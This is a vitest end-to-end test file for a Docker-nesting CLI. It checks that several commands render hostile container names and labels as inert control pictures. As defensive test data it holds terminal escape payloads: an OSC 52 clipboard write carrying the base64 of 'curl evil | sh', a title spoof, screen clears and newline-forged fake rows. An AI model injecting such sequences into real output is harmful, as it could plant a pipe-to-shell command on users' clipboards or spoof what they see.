import {spawn, type ChildProcess} from 'node:child_process';
import {mkdirSync, mkdtempSync, rmSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import type {DaemonClient} from '../../source/daemon/client.js';
import {e2eSkipped, labClient, labHost, offlineImages, removeContainers} from '../lab/lab.js';
import {eventually} from '../lab/live.js';
import {labLabels} from '../lab/names.js';

/**
 * What a container's owner writes reaches the output of the commands for scripts only as inert
 * text: `tree`, `diff`, `doctor`, `prune` and `forward` print no ESC, BEL, C1 or carriage
 * return of theirs, and a newline in a name or label never starts a line of its own. The
 * strings come from a real container's labels on the lab daemon and from a scripted hostile
 * daemon inside a container (test/lab/hostile-text-daemon.mjs), which names its containers
 * as no real dockerd would let it. `--json` keeps the exact bytes (escaped by JSON).
 */

const clipboard = `\x1b]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07`;
/** The same sequences as the output must show them: control pictures. */
const seen = {
	clipboard: `␛]52;c;${Buffer.from('curl evil | sh').toString('base64')}␇`,
	title: '␛]0;PWNED-TITLE␇',
};
const hostileNames = {
	clip: `clip${clipboard}name`,
	lines: 'two\nlines\tand\u009b31mc1',
	dind3: 'dind3\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[H',
};

interface Result {
	code: number | null;
	stdout: string;
	stderr: string;
}

function cli(args: string[], options: {stdin?: 'ignore' | 'pipe'} = {}): Promise<Result> {
	return new Promise((resolve, reject) => {
		const child = spawn('node', ['dist/bin/cli.js', ...args], {
			env: {...process.env, DOCKER_HOST: labHost(), LANG: 'C.UTF-8'},
			stdio: [options.stdin ?? 'ignore', 'pipe', 'pipe'],
		});
		let stdout = '';
		let stderr = '';
		child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
		child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
		child.once('error', reject);
		child.once('close', (code) => resolve({code, stdout, stderr}));
	});
}

/** Text a terminal would only show: no control character but the line breaks, and no line a hostile string began. */
function expectInert(output: string, what: string): void {
	const raw = [...output].filter((char) => /[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/.test(char));
	expect(
		raw.map((char) => `U+${char.charCodeAt(0).toString(16).padStart(4, '0')}`),
		`${what}: raw control characters in ${JSON.stringify(output)}`,
	).toEqual([]);
	const injected = output.split('\n').filter((line) => /^\s*FAKE-/.test(line));
	expect(injected, `${what}: lines begun by a hostile string`).toEqual([]);
}

describe.skipIf(e2eSkipped)('untrusted text in the output of the commands for scripts', () => {
	let host: DaemonClient;
	let directory: string;
	let hostile: ChildProcess | undefined;
	const names = ['evil-text', 'evil-managed'];

	beforeAll(async () => {
		host = labClient();
		await removeContainers(host, names);
		directory = mkdtempSync(join(tmpdir(), 'dcpt-hostile-text-'));
		const runDir = join(directory, 'run');
		mkdirSync(runDir);
		const imageId = (await host.docker.getImage(offlineImages.busybox).inspect()).Id;
		hostile = spawn(process.execPath, ['test/lab/hostile-text-daemon.mjs', join(runDir, 'docker.sock'), imageId], {stdio: ['ignore', 'pipe', 'inherit']});
		await new Promise<void>((resolve, reject) => {
			hostile!.stdout!.once('data', () => resolve());
			hostile!.once('exit', (code) => reject(new Error(`the hostile daemon exited with ${code}`)));
		});
		// A DinD look-alike whose /run/docker.sock is the hostile daemon's.
		const planted = await host.docker.createContainer({
			Image: offlineImages.busybox,
			name: 'evil-text',
			Cmd: ['sleep', '600'],
			Labels: {...labLabels, 'io.dockerception.mode': 'dind'},
			Volumes: {'/var/lib/docker': {}},
			HostConfig: {Binds: [`${runDir}:/run`]},
		});
		await planted.start();
		// A real container on the lab daemon whose labels carry the same sequences.
		const labelled = await host.docker.createContainer({
			Image: offlineImages.busybox,
			name: 'evil-managed',
			Cmd: ['sleep', '600'],
			Labels: {...labLabels, 'io.dockerception.managed': 'true', 'io.dockerception.mode': `socket${clipboard}\nFAKE-LABEL-ROW\tx`},
		});
		await labelled.start();
	});

	afterAll(async () => {
		hostile?.kill('SIGTERM');
		if (host) await removeContainers(host, names);
		host?.close();
		if (directory) rmSync(directory, {recursive: true, force: true});
	});

	it('--json keeps the exact bytes (the strings below are really what the daemons say)', async () => {
		const result = await cli(['--json']);
		expect(result.code, result.stderr).toBe(0);
		const evil = (
			JSON.parse(result.stdout) as {roots: Array<{containers: Array<{name: string; daemon?: {containers: Array<{name: string}>}}>}>}
		).roots[0]!.containers.find((container) => container.name === 'evil-text');
		expect(evil?.daemon?.containers.map((container) => container.name)).toEqual(expect.arrayContaining(Object.values(hostileNames)));
	});

	it('tree', async () => {
		const result = await cli(['tree']);
		expect(result.code, result.stderr).toBe(0);
		expectInert(result.stdout + result.stderr, 'tree');
		const lines = result.stdout.split('\n');
		// Each hostile container is one row, its name shown with control pictures.
		expect(lines.filter((line) => line.includes(`clip${seen.clipboard}name`))).toHaveLength(1);
		expect(lines.filter((line) => line.includes('two␊lines␉and<9b>31mc1'))).toHaveLength(1);
		expect(lines.find((line) => line.includes(`clip${seen.clipboard}name`))).toContain(`img${seen.title}  Up 1 second␊FAKE-ROW`);
		// Its DinD look-alikes cannot be reached; the daemon's refusal is text too.
		expect(lines.find((line) => line.includes('dind3'))).toContain(`⇢ unreachable: no such thing${seen.title}␊FAKE-ERROR-LINE${seen.clipboard}`);
	});

	it('diff', async () => {
		const result = await cli(['diff', '--all', 'default', 'default/evil-text']);
		expect(result.code, result.stderr).toBe(1);
		expectInert(result.stdout + result.stderr, 'diff');
		expect(result.stdout).toContain(`Evil OS${seen.clipboard}`);
		expect(result.stdout).toContain('0-evil␊FAKE-DIFF-ROW  a  b');
		expect(result.stdout).toMatch(/^Evil␛\]0;PWNED-TITLE␇Key\s.*tab␉here$/m);
	});

	it('doctor', async () => {
		const result = await cli(['doctor']);
		// One data root for two running DinD look-alikes: an error.
		expect(result.code, result.stderr).toBe(1);
		expectInert(result.stdout + result.stderr, 'doctor');
		expect(result.stdout).toMatch(/^default\/evil-text\/dind3␛\]0;PWNED-TITLE␇␛\[2J␛\[H {2}error {2}shared-data-root: /m);
		expect(result.stdout).toContain(`busybox${seen.clipboard}:1`);
	});

	it('prune', async () => {
		// Not at a terminal and without --yes: it lists what it would remove, then stops.
		const result = await cli(['prune']);
		expect(result.code).toBe(2);
		expectInert(result.stdout + result.stderr, 'prune');
		expect(result.stdout).toContain(`default/evil-text/clip${seen.clipboard}name  dind${seen.clipboard}␊FAKE-PRUNE-ROW  running`);
		expect(result.stdout).toContain(`default/evil-managed  socket${seen.clipboard}␊FAKE-LABEL-ROW␉x  running`);
		expect(result.stderr.trim()).toBe('dockerception: prune removes containers: confirm with --yes when not at a terminal');
	});

	it('forward', async () => {
		// The hostile daemon itself, served until ctrl-c.
		const runtimeDir = mkdtempSync(join(tmpdir(), 'dcpt-runtime-'));
		const child = spawn('node', ['dist/bin/cli.js', 'forward', 'default/evil-text'], {
			env: {...process.env, DOCKER_HOST: labHost(), XDG_RUNTIME_DIR: runtimeDir, LANG: 'C.UTF-8'},
			stdio: ['ignore', 'pipe', 'pipe'],
		});
		let output = '';
		child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
		child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
		const exited = new Promise<number | null>((resolve) => child.once('exit', (code) => resolve(code)));
		try {
			await eventually(() => output.includes('ctrl-c ends it') || child.exitCode !== null, 30_000, 'the forward serving');
			child.kill('SIGINT');
			expect(await exited, output).toBe(0);
			expectInert(output, 'forward');
		} finally {
			child.kill('SIGKILL');
			rmSync(runtimeDir, {recursive: true, force: true});
		}

		// A container that is not there: the daemon's own names, in one line.
		const missing = await cli(['forward', 'default/evil-text/nothing-here']);
		expect(missing.code).toBe(2);
		expectInert(missing.stdout + missing.stderr, 'forward to a missing container');
		expect(missing.stderr.trim().split('\n')).toHaveLength(1);
		expect(missing.stderr).toContain(`clip${seen.clipboard}name`);

		// A container the daemon will not show: why, as the hostile daemon says it, in one line.
		const refused = await cli(['forward', 'default/evil-text/refuse-me']);
		expect(refused.code).toBe(1);
		expectInert(refused.stdout + refused.stderr, 'forward to an unreachable daemon');
		expect(refused.stderr.trim().split('\n')).toHaveLength(1);
		expect(refused.stderr).toContain(`no such thing${seen.title} FAKE-ERROR-LINE${seen.clipboard}`);
	});
});
